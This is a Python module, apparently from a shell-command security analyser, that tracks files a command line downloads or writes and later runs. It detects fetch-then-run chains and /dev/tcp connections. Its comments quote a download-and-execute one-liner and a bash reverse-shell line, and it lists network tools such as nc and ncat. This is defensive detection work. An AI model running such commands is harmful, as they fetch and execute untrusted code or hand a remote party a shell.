"""Files that a line itself writes and then runs: what it downloads (`curl -o i.sh u && sh i.sh`), and scripts that it makes."""

from __future__ import annotations

import posixpath
from collections.abc import Iterator
from typing import Final
from urllib.parse import urlsplit

from bus.shell.commands import Command
from bus.shell.inner import Arg, names, read_options
from bus.shell.interpreters import find_interpreter
from bus.shell.script_runners import SHELLS
from bus.shell.words import UNKNOWN, UNSET

_FETCHERS: Final = frozenset(
    ["curl", "wget", "aria2c", "http", "https", "xh", "fetch", "lynx", "axel", "gh", "nc", "ncat"]
)
_PASSES_ON: Final = frozenset({"tee", "mv", "cp", "install", "ln"})
_CURL: Final = names(
    "-o -H -X -d -u -A -e -b -c -x -m -w -T -F -E -K -y -Y -z -C -r --output --header --request --data --user --user-agent"
    " --referer --cookie --proxy --max-time --connect-timeout --retry --output-dir --data-raw --url --form --cacert --cert"
)
_WGET: Final = names(
    "-O -o -P -a -t -T -U -e -i -w -Q --output-document --directory-prefix --tries --timeout --user-agent --header --user"
)
_SHELL_VALUES: Final = names("-o +o -O +O --rcfile --init-file")
_MOST: Final = 64
_LONGEST: Final = 64 * 1024


SOCKET: Final = "nc"
"""What stands for a shell's own connections: `/dev/tcp/host/port`."""


def is_socket(path: str) -> bool:
    """Whether a path is a connection to another machine, to a shell."""
    return path.startswith(("/dev/tcp/", "/dev/udp/"))


class Files:
    """By path, what the commands so far have downloaded and written."""

    def __init__(self) -> None:
        self.sources: dict[str, tuple[str, ...]] = {}
        self.texts: dict[str, str] = {}
        self.socket = False
        """A descriptor is open to the network: `exec 3<>/dev/tcp/host/80`."""

    def __bool__(self) -> bool:
        """Whether the line has made anything that it may run."""
        return bool(self.sources or self.texts or self.socket)

    def keep(self, text: str | None) -> str | None:
        """The path of a file that holds what `<(…)` prints; None where that cannot be told."""
        if text is None or len(text) > _LONGEST or len(self.texts) > _MOST:
            return None
        path = f"/dev/fd/{63 + len(self.texts)}"
        self.texts[path] = text
        return path

    def note(self, command: Command, text: str | None) -> None:
        """Take over what a command writes; `text` is what it prints, where that is known."""
        program = command.program
        if not command.redirects and program not in _FETCHERS and program not in _PASSES_ON:
            return
        targets = [(sign, _path(command, target)) for sign, target in command.redirects if sign[:1] in (">", "&")]
        if command.program == "tee":
            targets += [(">", _path(command, word)) for word in command.words if not word.startswith("-")]
            text = command.stdin if text is None else text
        fetched = tuple(name for name in (*command.piped_from, command.program) if name in _FETCHERS)
        for sign, path in targets[:_MOST]:
            if not path or len(self.texts) > _MOST:
                continue
            if fetched:
                self.sources[path] = fetched
            elif text is not None and len(text) <= _LONGEST:
                before = self.texts.get(path, "") if sign.endswith(">>") else ""
                self.texts[path] = f"{before}\n{text}" if before else text
        if command.program in _FETCHERS:
            for path in _downloads(command):
                if path and len(self.sources) <= _MOST:
                    self.sources[path] = (command.program,)
        elif command.program in ("mv", "cp", "install", "ln") and (self.sources or self.texts):
            self._copy(command)

    def _copy(self, command: Command) -> None:
        words = [word for word in command.words if not word.startswith("-")]
        for source in words[:-1]:
            path, target = _path(command, source), _path(command, words[-1])
            for place in (target, posixpath.join(target, posixpath.basename(path))) if path and target else ():
                if path in self.sources:
                    self.sources[place] = self.sources[path]
                if path in self.texts:
                    self.texts[place] = self.texts[path]

    def read_by(self, command: Command) -> tuple[str, ...]:
        """The programs that wrote what a command is given as arguments: of `cat i.sh` those that i.sh comes from."""
        if not self.sources and not command.redirects:
            return ()
        words = (*command.words, *(target for sign, target in command.redirects if "<" in sign))
        found = tuple(one for word in words for one in self.sources.get(_path(command, word), ()))
        return (*found, SOCKET) if any(is_socket(word) for word in words) else found

    def script_of(self, command: Command, word: str) -> tuple[str | None, tuple[str, ...]]:
        """The text of the file that a command runs as its program or script, and the programs that it comes from."""
        if any(is_socket(target) for _, target in command.redirects):
            self.socket = True
            if command.program in SHELLS or find_interpreter(command.program):
                return None, (SOCKET,)  # bash -i >& /dev/tcp/host/80 0>&1
        if not self.sources and not self.texts:
            return None, (SOCKET,) if self.socket and command.program in SHELLS and not command.words else ()
        path = _path(command, _script(command, word))
        return self.texts.get(path), self.sources.get(path, ())


def _script(command: Command, word: str) -> str:
    """The file that a command runs; empty where it runs none. `word` is its first word, as it is written."""
    args = [Arg(text) for text in command.words]
    if command.program in SHELLS:
        options = read_options(args, _SHELL_VALUES)
        if options.has("-c", "-s"):
            return ""
        operand = args[options.end].text if options.end < len(args) else ""
        return operand or next((target for sign, target in command.redirects if sign == "<"), "")
    if command.program in ("source", "."):
        return command.words[0] if command.words else ""
    if find_interpreter(command.program):
        options = read_options(args, frozenset())
        return "" if options.has("-c", "-e", "-m", "-r") or options.end >= len(args) else args[options.end].text
    return word if "/" in word else ""


def _downloads(command: Command) -> Iterator[str]:
    """The files that a download writes beside its redirections."""
    args = [Arg(word) for word in command.words]
    values = _WGET if command.program == "wget" else _CURL
    items: list[tuple[str, str]] = []
    operands: list[str] = []
    place = 0
    while place < len(args):
        options = read_options(args, values, start=place)
        items += [(name, value.text) for name, value in options.items]
        operands += [arg.text for arg in args[options.end : options.end + 1]]
        place = options.end + 1
    given = dict(items)
    folder = given.get("--output-dir") or given.get("-P") or given.get("--directory-prefix") or ""
    if command.program == "wget":
        named = [value for name, value in items if name in ("-O", "--output-document")]
        found = named or [_basename(url) for url in operands]
    else:
        found = [value for name, value in items if name in ("-o", "--output", "-O", "--out")]
        if (
            "-O" in given
            or "--remote-name" in given
            or "--remote-name-all" in given
            or command.program in ("aria2c", "axel")
        ):
            found += [_basename(url) for url in operands]
    for file in found:
        if file and file != "-":
            yield _path(command, posixpath.join(folder, file))


def _basename(url: str) -> str:
    path = urlsplit(url if "://" in url else f"//{url}").path if "[" not in url else url
    return posixpath.basename(path) or "index.html"


def _path(command: Command, word: str) -> str:
    """One spelling of a path for one file; empty where nothing of it is known."""
    if not word.strip(UNKNOWN + UNSET):
        return ""
    plain = word if word.startswith(("/", "~")) else posixpath.join(command.directory, word)
    return posixpath.normpath(plain)
